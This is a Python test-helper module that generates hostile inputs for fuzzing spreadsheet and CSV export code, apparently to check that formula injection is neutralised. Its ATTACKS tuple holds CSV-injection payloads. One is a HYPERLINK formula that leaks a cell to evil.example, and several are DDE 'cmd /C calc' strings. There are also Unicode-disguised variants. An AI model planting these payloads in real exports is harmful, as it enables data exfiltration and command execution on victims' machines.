"""Words that try to become formulas, or to be lost, on their way through a table."""

from __future__ import annotations

import random

ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "x;=1+1",
    "x\t=1+1",
    "x,=1+1",
    'x;"=1+1"',
    'x,"=1+1",y',
    'x;"\n=1+1',
    "x\n=1+1",
    "x\r=1+1",
    "sep=;",
    "=",
    "'",
    '"',
    ";",
    "NA",
    "nan",
    "None",
    "null",
    "-",
    "-1",
    "+1.5",
    "007",
    "1e5",
    "1,5",
    "2026-01-02",
    "TRUE",
    " ",
    "  a  ",
    "a\r\nb",
    "a\u2028b",
    "Sjögren-Ø 抗核抗体",
    "\u202eabc",
    "\U0001f52c",
)
"""What was used against spreadsheets, and what readers of tables take for another."""

_PIECES = (
    *"=+-@'\";,\t\r\n|!()&% ",
    *"\uff1d\uff0b\uff0d\uff20\u00a0\u200b\ufeff\x0b\x0c\x1f\x85\u2028",
    *("\r\n", ';"', '",', "''", "1", "a", "Z", "é", "抗", "cmd", "SUM(", "1.5"),
)


def hostile_words(n: int, seed: int = 0) -> list[str]:
    """Return `n` words: the attacks, those at random put together, and any letters."""
    rng = random.Random(seed)
    words = list(ATTACKS[:n])
    while len(words) < n:
        kind = rng.random()
        if kind < 0.7:
            words.append("".join(rng.choices(_PIECES, k=rng.randint(1, 9))))
        elif kind < 0.9:
            words.append(rng.choice(_PIECES) + rng.choice(ATTACKS))
        else:
            words.append("".join(_any_letter(rng) for _ in range(rng.randint(1, 12))))
    return words


def _any_letter(rng: random.Random) -> str:
    """Return a letter of all of Unicode that a UTF-8 file can hold, but not NUL."""
    while True:
        letter = chr(rng.randint(1, 0x10FFFF))
        if not "\ud800" <= letter <= "\udfff":
            return letter
